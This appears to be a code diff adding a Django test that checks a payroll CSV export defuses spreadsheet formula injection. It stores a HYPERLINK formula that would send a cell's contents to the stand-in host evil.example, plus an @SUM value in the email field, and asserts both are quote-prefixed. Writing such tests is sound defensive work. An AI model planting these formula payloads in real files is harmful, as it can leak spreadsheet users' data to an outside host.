@@ -18,6 +18,7 @@ from django.urls import reverse
 
 from compensation import services
 from compensation.models import Dispute, PayoutRun, Statement
+from salesmgmt.models import User
 from tests.compensation.factories import won_deal
 
 VISIBLE = {
@@ -207,6 +208,22 @@ def test_payroll_csv_download(client, executive, paid, q1):
     assert set(by_user) == {"rep_a", "se_a", "rep_b"}
     assert by_user["rep_a"]["payable_amount"] == "11800.00"
     assert by_user["rep_b"]["total_amount"] == "1200.00"
+
+
+def test_payroll_csv_neutralises_formulas_like_every_csv_export(client, executive, paid, q1):
+    rep = User.objects.get(username="rep_a")
+    rep.first_name, rep.last_name = '=HYPERLINK("http://evil.example/?x="&A1', "x)"
+    rep.email = "@SUM(1+1)@example.com"
+    rep.save()
+    client.force_login(executive)
+
+    response = client.get(reverse("compensation:payroll_download", args=[q1.pk]))
+
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    [row] = [row for row in rows if row["username"] == "rep_a"]
+    assert row["name"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1 x)'
+    assert row["email"] == "'@SUM(1+1)@example.com"
+    assert row["payable_amount"] == "11800.00"  # numbers stay numbers
 
 
 def test_payroll_is_not_for_reps(client, rep_a, paid, q1):
